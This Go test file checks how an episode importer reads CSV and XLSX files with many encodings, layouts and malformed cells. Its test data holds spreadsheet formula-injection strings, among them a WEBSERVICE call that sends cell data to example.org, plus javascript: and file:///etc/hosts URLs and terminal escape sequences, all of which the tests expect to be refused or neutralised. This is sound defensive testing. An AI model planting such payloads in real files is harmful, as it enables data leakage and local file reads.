package importer

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/callboard/callboard"
	"github.com/callboard/callboard/episode"
	"github.com/callboard/callboard/sqldb/sqldbtest"
)

// kindTests are the files of testdata/kinds, each of a kind that people send, with what it needs to be told and what a person reads in it: how
// the file is written, what its columns are used for, what there is to say of the file, and what becomes of each row. A file that is
// refused has the reason alone. None of this was made by the importer.
func kindTests(t *testing.T) map[string]struct {
	opts Options
	want string
} {
	t.Helper()
	mapped, err := ParseMapping(`title="Title, original"`)
	if err != nil {
		t.Fatal(err)
	}
	const (
		csvFile = "CSV, UTF-8, comma between cells, header on line 1: "
		noLink  = `must be an http or https URL of at most 2048 characters, or the path of a file: /api/v1/files/ID/content (column 2 ("Thumbnail URL"))`
	)
	return map[string]struct {
		opts Options
		want string
	}{
		"cr-line-ends.csv": {want: csvFile + `title=2 air_date=3 episode_number=1
2 E11 "Salt Flats" 1994-02-03
3 E12 "Low Road" 1994-02-10
4 E13 "Two Words, One Lie" 1994-02-17
5 E14 "Ferry Night"`},
		"sep-line.csv": {want: `CSV, UTF-8, bar between cells, header on line 2, dates day-first: title=2 air_date=3 episode_number=1
3 E1 "Nebelhorn" 2018-11-05
4 E2 "Ebbe | Flut" 2018-11-19`},
		"title-rows.csv": {want: `CSV, UTF-8, semicolon between cells, header on line 4: title=3 air_date=4 season_number=1 episode_number=2
note: above the header, and not read: line 1 "Harbour Watch", line 2 "Production office: K. Ahlgren"
5 S2 E1 "The Breakwater" 2016-09-04
6 S2 E2 "Slack Water" 2016-09-11`},
		"repeated-header.csv": {want: csvFile + `title=1 season_number=3 episode_number=2
2 S3 E1 "Cold Open"
3 S3 E2 "The Long Table"
4 skipped: repeats the header
5 S4 E1 "Washing Up"
6 skipped: repeats the header
7 S4 E2 "Last Orders"`},
		"totals.csv": {want: csvFile + `title=2 air_date=4 episode_number=1
ignored: column 3 ("Minutes") is no field of an episode
2 E1 "Copper" 2011-01-05
3 E2 "Tin" 2011-01-12
4 E3 "Sum of Parts" 2011-01-19
5 skipped: is a total
6 skipped: is a total`},
		"number-gap.csv": {opts: Options{ShowTitle: new("Flutlicht")}, want: `CSV, UTF-8, semicolon between cells, header on line 1: title=2 episode_number=1
2 Flutlicht: E7 "Trailer"
3 Flutlicht: E4 "Erste Flut"
4 Flutlicht: E5 "Zweite Flut"
5 Flutlicht: E8 "Making-of"
6 Flutlicht: E6 "Dritte Flut"`},
		"quotes-in-cells.tsv": {want: `CSV, UTF-8, tab between cells, header on line 1: title=2 description=3 episode_number=1
2 E1 "\"Iron\" Mike and the Choir" (A bet.)
3 E2 "Two 6\" Nails" (Hardware.)
4 E3 "The \"Quiet\" One" (Nobody speaks.)
5 E4 "Fourth" ("Why?" she says.)
6 E5 "Fifth" (The end.")
7 E6 "Sixth" (It goes on.)`},
		"open-quote.csv": {want: csvFile + `title=2 description=3 episode_number=1
2 E21 "Harbour" (Fog comes in.)
3 refused: has a quote that is not closed where its cell ends; quotes inside of a quoted cell are doubled: "say ""hi"""
4 E23 "Cable" (Ends, at last.)
5 E24 "Mast" (Nobody is home.)
6 E25 "Rope" (He says "never" twice.)`},
		"show-in-title.csv": {want: `CSV, UTF-8, semicolon between cells, header on line 1: title=4 season_number=2 episode_number=3 show=1
2 Krähenfeld: S1 E1 "Ankunft"
3 Krähenfeld: S1 E2 "Der Zaun"
4 Krähenfeld: S2 E1 "Abschied"`},
		"name-and-title.csv": {want: csvFile + `title=3 air_date=4 episode_number=2 show=1
2 Quarry Street: E1 "Dust" 2019-01-07
3 Quarry Street: E2 "Chisel" 2019-01-14
4 Quarry Street: E3 "Slate" 2019-01-21`},
		"series-is-show.csv": {want: csvFile + `title=3 episode_number=2 show=1
2 Lantern House: E1 "The Key"
3 Lantern House: E2 "The Cellar"
4 Night Ferry: E1 "Casting Off"`},
		"number-overall.csv": {want: `CSV, UTF-8, semicolon between cells, header on line 1: title=4 season_number=2 episode_number=3
ignored: column 1 ("Number"): column 3 ("Episode") is more specific for episode_number
2 S4 E11 "Ash"
3 S4 E12 "Birch"
4 S5 E1 "Cedar"`},
		"wikipedia.csv": {want: csvFile + `title=3 air_date=5 episode_number=2
ignored: column 1 ("No.overall") counts through all seasons
ignored: column 4 ("Directed by") is no field of an episode
ignored: column 6 ("Prod. code") is no field of an episode
note: column 3 ("Title"): the quotes around all titles are taken off
2 E9 "Third Rail" 2012-10-03
3 E10 "Dead Letter" 2012-10-10`},
		"date-and-air-date.csv": {want: csvFile + `title=1 air_date=4
ignored: column 2 ("Date"): column 4 ("First aired") is more specific for air_date
ignored: column 3 ("Release date"): column 4 ("First aired") is more specific for air_date
2 "Undertow" 2007-09-14
3 "Rip Current" 2007-09-21`},
		"bad-bytes.csv": {want: csvFile + `title=1 episode_number=2
2 E1 "Łódź – stacja"
3 E2 "Señor Ñandú"
4 refused: column 1, "Sm�rrebr�d": the byte 0xF8 in it is not UTF-8
5 E4 "Ελλάδα"`},
		"windows-1252.csv": {want: `CSV, windows-1252, semicolon between cells, header on line 1: title=2 description=3 episode_number=1
2 E1 "Straße nach Süden" („Fünf € genügen“, sagt Käthe.)
3 E2 "Übermut…" (Größe zählt nicht.)
4 E3 "Schloß Grünau – Teil 2"`},
		"shift-jis.csv": {want: `CSV, Shift_JIS, comma between cells, header on line 1: title=2 air_date=3 episode_number=1
2 E1 "潮騒の町" 2009-04-04
3 E2 "能登の灯台" 2009-04-11
4 E3 "ソナタの表紙" 2009-04-18`},
		"utf-16be.csv": {want: `CSV, UTF-16BE, semicolon between cells, header on line 1: title=2 description=3 episode_number=1
2 E1 "Přístav" (Loď „Běla“ čeká.)
3 E2 "Ďáblův most"
4 E3 "Żółw 🐢" (Płynie.)`},
		"two-comments.csv": {want: csvFile + `title=3 episode_number=1
ignored: column 2 ("Comment") is no field of an episode
ignored: column 4 ("Comment") is no field of an episode
2 E1 "Flint"
3 E2 "Tinder"`},
		"zero-width.csv": {want: csvFile + `title=2 episode_number=1
2 E1 "Gullsong"
3 refused: title is missing: "\u200b\u200d" shows nothing that can be one (column 2 ("Title"))
4 refused: title is missing (column 2 ("Title"))
5 refused: title is missing: "\ufeff\u2060" shows nothing that can be one (column 2 ("Title"))
6 E5 "Wide Load"`},
		"formulas-as-text.csv": {want: csvFile + `title=1 description=3 episode_number=2
2 E1 "=SUM(A1:A9)" (=WEBSERVICE("http://example.org/"&A1))
3 E2 "+44 20 7946 0000" (+1 for effort)
4 E3 "-273 Degrees" (-- cut --)
5 E4 "@midnight" (@TODAY())
6 E5 "'Tis the Season" ('quoted')
7 E6 "=2*3" (=tab); title "'=2*3" has an apostrophe by which a spreadsheet takes it for a text, which is left out
8 E7 "a;=b" (line` + "\n" + `=next)
10 E8 "＝全角" (＋1)`},
		"decimal-comma.csv": {want: `CSV, UTF-8, semicolon between cells, header on line 1: title=2 episode_number=1
ignored: column 3 ("Rating") is no field of an episode
ignored: column 4 ("Reichweite (Mio.)"): no field is known by this name
2 E1 "Ostwind"
3 E2 "Westwind"
4 E3 "Flaute"`},
		"comma-in-header.csv": {opts: Options{Mapping: mapped}, want: csvFile + `title=1 episode_number=3
ignored: column 2 ("Title, English"): the mapping takes title from column 1 ("Title, original")
2 E1 "Sjøsprøyt"
3 E2 "Tåke"`},
		"unquoted-comma.csv": {want: csvFile + `title=2 air_date=3 episode_number=1
2 refused: has 4 cells where the header has 3; put a text that holds the delimiter in quotes
3 E2 "Plain Sailing" 2003-02-14
4 refused: air_date " Pepper" is not a date; write it as 1963-11-23 (column 3 ("Air date"))
5 E4 "Home" 2003-02-28`},
		"words-for-nothing.csv": {want: csvFile + `title=1 description=3 episode_number=2 status=5 categories=4
2 E1 "Kiln" approved; description "n/a" stands for no value; categories "NULL" stands for no value
3 E2 "Slip" pending ["tragedy" "Farce"]; description "-" stands for no value
4 refused: status "on hold" is none of draft, pending, approved, rejected, published, archived (column 5 ("status"))
5 E4 "Bisque" archived ["raku" "salt, sugar"]; description "None" stands for no value
6 refused: status "unknown" is none of draft, pending, approved, rejected, published, archived (column 5 ("status"))
7 E6 "Ember" ["comedy / satire"]; description "(none)" stands for no value`},
		"pictures.csv": {want: csvFile + `title=1 thumbnail_url=2
2 "Anchor" https://pictures.example.net/anchor.png?size=large
3 refused: thumbnail_url "javascript:void(0)" ` + noLink + `
4 "Capstan" HTTP://Example.net/capstan.jpg
5 refused: has 3 cells where the header has 2; put a text that holds the delimiter in quotes
6 refused: thumbnail_url "data:image/gif;base64,R0lGOD" ` + noLink + `
7 refused: thumbnail_url "file:///etc/hosts" ` + noLink + `
8 "Gunwale" /api/v1/files/0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b/content
9 refused: thumbnail_url "pictures/hawser.jpg" ` + noLink + `
10 refused: thumbnail_url "//example.net/inlet.png" ` + noLink + `
11 "Jetty"; thumbnail_url "-" stands for no value`},
		"no-titles.csv": {opts: Options{ShowTitle: new("Nobody")}, want: `refused: no column is known to hold the titles; ` +
			`name it with title=COLUMN, or by its position, such as title=#1, out of: #1 "colour"; #2 "weight"`},
		"escape-in-header.csv": {want: `refused: no column is known to hold the titles; ` +
			`name it with title=COLUMN, or by its position, such as title=#1, out of: #1 "]2;gotcha[5mlabel"; #2 "[2Jcode"`},
		"pdf.csv":          {want: "refused: the file is a PDF; export the list as CSV or XLSX"},
		"web-page.xls":     {want: "refused: the file is an HTML page, whatever its name says; open it in a spreadsheet program and save it as XLSX or CSV"},
		"opendocument.ods": {want: "refused: the file is an OpenDocument spreadsheet (.ods); open it in a spreadsheet program and save it as XLSX or CSV"},
		"merged-cells.xlsx": {want: `XLSX, sheet "Plan", header on line 2: title=3 air_date=4 season_number=1 episode_number=2
note: above the header, and not read: line 1 "Harbour Watch, all seasons"
3 S7 E1 "Kelp" 2014-03-02
4 S7 E2 "Brine" 2014-03-09
5 S7 E3 "Spume" 2014-03-09
6 S8 E1 "Squall" 2015-03-01
7 S8 E2 "Calm" 2015-03-08
8 S9 E1 "Neap"`},
		"formulas.xlsx": {want: `XLSX, sheet "Episodes", header on line 1: title=3 description=5 air_date=4 season_number=1 episode_number=2
ignored: column 6 ("Crew"): no field is known by this name
2 S3 E1 "Pier & Post" 2002-09-01 (Typed.)
3 refused: title "=UPPER(\"gale\")" is a formula whose value the file does not hold; save the file in a spreadsheet, or write the value (column 3 ("Title"))
4 refused: episode_number "=B3+1" is a formula whose value the file does not hold; save the file in a spreadsheet, or write the value (column 2 ("Episode"))
5 refused: air_date "=D3+14" is a formula whose value the file does not hold; save the file in a spreadsheet, or write the value (column 4 ("Air date"))
6 refused: description "=C2&\"!\"" is a formula whose value the file does not hold; save the file in a spreadsheet, or write the value (column 5 ("Summary"))
7 S3 E6 "Marram" 2002-10-06`},
		"error-cells.xlsx": {want: `XLSX, sheet "Episodes", header on line 1: title=2 description=4 air_date=3 episode_number=1
ignored: column 5 ("Budget"): no field is known by this name
2 refused: title "#REF!" is the error of a formula; write the value (column 2 ("Title"))
3 refused: episode_number "#DIV/0!" is the error of a formula; write the value (column 1 ("Ep"))
4 E3 "Third"; air_date "#N/A" stands for no value
5 refused: description "#VALUE!" is the error of a formula; write the value (column 4 ("Synopsis"))
6 E5 "Fifth" 2010-06-29`},
		"hidden-rows.xlsx": {want: `XLSX, sheet "Run", header on line 1: title=2 episode_number=1 status=3
2 E1 "Lichen" approved
3 skipped: the row is hidden; the option hidden_rows takes it in
4 E3 "Fern" approved
5 E4 "Bracken"
6 skipped: the row is hidden; the option hidden_rows takes it in`},
		"season-sheets.xlsx": {want: `XLSX, sheet "Season 3", header on line 1: title=2 episode_number=1
note: the season is that of the worksheet, 3
note: other worksheets have rows and are not read; each is imported by its name, with the option sheet
other: "Season 4", 4 rows
other: "Crew", 2 rows
2 S3 E1 "Ember"
3 S3 E2 "Cinder"`},
		"cover-sheet.xlsx": {want: `XLSX, sheet "List", header on line 1: title=2 air_date=3 episode_number=1
note: other worksheets have rows and are not read; each is imported by its name, with the option sheet
other: "About", 3 rows
2 E1 "Points" 1998-04-05
3 E2 "Semaphore" 1998-04-12`},
		"dates-1904.xlsx": {want: `XLSX, sheet "Old Mac", header on line 1: title=2 air_date=3 episode_number=1
2 E1 "Leap" 2004-02-29
3 E2 "Evening" 2004-02-29
4 E3 "Day nought" 1904-01-01
5 E4 "Day one" 1904-01-02
6 E5 "Typed" 2004-02-29`},
	}
}

func TestKindsOfFiles(t *testing.T) {
	t.Parallel()
	for name, test := range kindTests(t) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, sqldbtest.Open(t, sqldbtest.SQLite, tables()...))
			if diff := cmp.Diff(test.want, f.read(filepath.Join("testdata", "kinds", name), test.opts)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// read imports a file, and returns what kindTests says of it. What was created is told from the database.
func (f fixture) read(path string, opts Options) string {
	f.t.Helper()
	content, err := os.ReadFile(path)
	if err != nil {
		f.t.Fatal(err)
	}
	report, err := f.Import(f.ctx(), bytes.NewReader(content), int64(len(content)), opts, Hooks{})
	if err != nil {
		if callboard.CodeOf(err) != callboard.CodeInvalid || strings.ContainsFunc(err.Error(), unicode.IsControl) || len(f.events()) > 0 {
			f.t.Errorf("%q, after %d events", err, len(f.events()))
		}
		return "refused: " + messageOf(err)
	}
	f.addsUp(report.Counts)
	created := map[string]string{}
	for _, e := range f.list(f.t) {
		created[e.Title] = f.describe(e)
	}
	said := map[int]Problem{}
	for _, p := range report.Problems {
		said[p.Line] = p
	}
	tab, _ := readFile(f.t, path, opts)
	lines := layoutLines(report.Layout)
	err = tab.entries(f.t.Context(), func(e entry) error {
		p := said[e.line]
		if p.Outcome == Refused || p.Outcome == Skipped {
			lines = append(lines, fmt.Sprintf("%d %s: %s", e.line, p.Outcome, p.Reason))
			return nil
		}
		line := fmt.Sprintf("%d %s", e.line, created[e.patch.Title.Value])
		if p.Reason != "" {
			line += "; " + p.Reason
		}
		lines = append(lines, line)
		return nil
	})
	if err != nil || len(created) != report.Created {
		f.t.Errorf("%d episodes of %+v, %v", len(created), report.Counts, err)
	}
	return strings.Join(lines, "\n")
}

// layoutLines says how a file is read: its columns by field, those that are ignored, and the notes.
func layoutLines(l Layout) []string {
	var used []string
	lines := []string{""}
	for _, field := range fields() {
		for _, c := range l.Columns {
			if c.Field == field {
				used = append(used, fmt.Sprintf("%s=%d", field, c.Position))
			}
		}
	}
	lines[0] = l.String() + ": " + strings.Join(used, " ")
	for _, c := range l.Columns {
		if c.Field != "" {
			continue
		}
		why := ": " + c.Why
		if strings.HasPrefix(c.Why, "is ") || strings.HasPrefix(c.Why, "counts ") {
			why = " " + c.Why
		}
		lines = append(lines, fmt.Sprintf("ignored: column %d (%q)%s", c.Position, c.Name, why))
	}
	for _, note := range l.Notes {
		lines = append(lines, "note: "+note)
	}
	for _, other := range l.Others {
		lines = append(lines, fmt.Sprintf("other: %q, %d rows", other.Name, other.Rows))
	}
	return lines
}

// describe returns a stored episode as a line: Show: S1 E2 "title" 2020-01-01 (description) published ["drama"] http://….
func (f fixture) describe(e episode.Episode) string {
	f.t.Helper()
	var parts []string
	if e.ShowID != nil {
		s, err := f.cfg.Shows.Get(f.ctx(), *e.ShowID)
		if err != nil {
			f.t.Fatal(err)
		}
		parts = append(parts, s.Title+":")
	}
	if e.SeasonNumber != nil {
		parts = append(parts, fmt.Sprintf("S%d", *e.SeasonNumber))
	}
	if e.EpisodeNumber != nil {
		parts = append(parts, fmt.Sprintf("E%d", *e.EpisodeNumber))
	}
	parts = append(parts, fmt.Sprintf("%q", e.Title))
	if e.AirDate != nil {
		parts = append(parts, *e.AirDate)
	}
	if e.Description != nil {
		parts = append(parts, "("+*e.Description+")")
	}
	if e.Status != episode.Draft {
		parts = append(parts, string(e.Status))
	}
	if len(e.Categories) > 0 {
		parts = append(parts, fmt.Sprintf("%q", e.Categories))
	}
	if e.ThumbnailURL != nil {
		parts = append(parts, *e.ThumbnailURL)
	}
	return strings.Join(parts, " ")
}

// A list that was sent once comes again with mended rows and new ones, and then as it is.
func TestListsThatComeAgain(t *testing.T) {
	t.Parallel()
	tidewater := Options{ShowTitle: new("Tidewater")}
	for name, test := range map[string]struct {
		opts  Options
		files []string
		want  []Counts // of each file in turn
		end   []string
	}{
		"mended": {tidewater, []string{"first-draft.csv", "second-draft.csv", "second-draft.csv"}, []Counts{
			{Rows: 3, Created: 3}, {Rows: 4, Created: 1, Updated: 2, Unchanged: 1}, {Rows: 4, Unchanged: 4},
		}, []string{
			"Tidewater 1/1 Landfall 2013-05-06", "Tidewater 1/2 Driftwood 2013-05-13", "Tidewater 1/3 Beacon 2013-05-27",
			"Tidewater 1/4 Undertow 2013-06-03",
		}},
		"without numbers": {tidewater, []string{"without-numbers.csv", "without-numbers.csv"}, []Counts{{Rows: 3, Created: 3}, {Rows: 3, Unchanged: 3}},
			[]string{"Tidewater -/1 Heather 1975-11-03", "Tidewater -/2 Gorse 1975-11-10", "Tidewater -/3 Broom 1975-11-17"}},
		"without numbers, outside of shows": {Options{}, []string{"without-numbers.csv", "without-numbers.csv"},
			[]Counts{{Rows: 3, Created: 3}, {Rows: 3, Unchanged: 3}},
			[]string{"- -/- Broom 1975-11-17", "- -/- Gorse 1975-11-10", "- -/- Heather 1975-11-03"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			forEach(t, func(t *testing.T, f fixture) {
				for i, file := range test.files {
					path := filepath.Join("testdata", "kinds", file)
					plan := f.takeFile(path, test.opts, false)
					before := len(f.events())
					report := f.takeFile(path, test.opts, true)
					if plan.Counts != test.want[i] || report.Counts != test.want[i] || len(report.Problems) > 0 {
						t.Errorf("file %d: plan %+v, import %+v, %+v; want %+v", i, plan.Counts, report.Counts, report.Problems, test.want[i])
					}
					if n := len(f.events()) - before; report.Unchanged == report.Rows && n > 0 {
						t.Errorf("file %d says nothing new, and made %d events", i, n)
					}
				}
				if diff := cmp.Diff(test.end, f.all()); diff != "" {
					t.Errorf("episodes (-want +got):\n%s", diff)
				}
			})
		})
	}
}

// Texts that look like formulas come in as texts, go out so that no spreadsheet takes them for formulas, and come in again as they were.
func TestFormulasAsTextGoOutAndComeBack(t *testing.T) {
	t.Parallel()
	forEach(t, func(t *testing.T, f fixture) {
		if r := f.takeFile(filepath.Join("testdata", "kinds", "formulas-as-text.csv"), Options{ShowTitle: new("=Show()")}, true); r.Created != 8 {
			t.Fatalf("%+v", r.Counts)
		}
		for _, format := range []callboard.Format{callboard.CSV, callboard.NDJSON, callboard.XLSX} {
			events := len(f.events())
			if r := f.exportTo(t, f, format); r.Unchanged != 8 || len(f.events()) != events {
				t.Errorf("%s, into the same server: %+v, %d events", format, r.Counts, len(f.events())-events)
			}
			empty := newFixture(t, sqldbtest.Open(t, sqldbtest.SQLite, tables()...))
			if r := f.exportTo(t, empty, format); r.Created != 8 || len(r.Shows) != 1 || r.Shows[0].Title != "=Show()" {
				t.Errorf("%s, into an empty server: %+v, shows %+v", format, r.Counts, r.Shows)
			}
		}
		var file bytes.Buffer
		if err := f.cfg.Episodes.Export(f.ctx(), &file, callboard.SheetOptions{Format: callboard.CSV, NoBOM: true}, episode.Filter{}, episode.ByNumber, func(int) {}); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(&file).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		at := func(record []string, name string) string { return record[slices.Index(records[0], name)] }
		for _, record := range records[1:] {
			got = append(got, at(record, "show"), at(record, "title"), at(record, "description"))
		}
		want := []string{
			"'=Show()", "'=SUM(A1:A9)", `'=WEBSERVICE("http://example.org/"&A1)`,
			"'=Show()", "'+44 20 7946 0000", "'+1 for effort",
			"'=Show()", "'-273 Degrees", "'-- cut --",
			"'=Show()", "'@midnight", "'@TODAY()",
			"'=Show()", "'Tis the Season", "'quoted'",
			"'=Show()", "'=2*3", "'=tab",
			"'=Show()", "a;'=b", "line\n'=next",
			"'=Show()", "'＝全角", "'＋1",
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("show, title and description in CSV (-want +got):\n%s", diff)
		}
	})
}

// What breaks a rule of episodes is refused with its cell and its column, as what cannot be read is.
func TestBrokenRulesNameTheirColumn(t *testing.T) {
	t.Parallel()
	f := newFixture(t, sqldbtest.Open(t, sqldbtest.SQLite, tables()...))
	path := filepath.Join(t.TempDir(), "list.csv")
	long := strings.Repeat("x", 10_001)
	content := "Title,Plot,Tags,Show\n" + long + ",,,A\nB," + long + ",,A\nC,," + long + ",A\nD,,,E" + long + "\nF,,,A\n"
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	cell := `"` + long[:40] + `…" must be `
	want := `CSV, UTF-8, comma between cells, header on line 1: title=1 description=2 categories=3 show=4
2 refused: title ` + cell + `1 to 255 characters, and not only spaces (column 1 ("Title"))
3 refused: description ` + cell + `at most 10000 characters (column 2 ("Plot"))
4 refused: categories[0] ` + cell + `at most 50 characters (column 3 ("Tags"))
5 refused: show "E` + cell[2:] + `1 to 255 characters, and not only spaces (column 4 ("Show"))
6 A: E1 "F"`
	if diff := cmp.Diff(want, f.read(path, Options{})); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
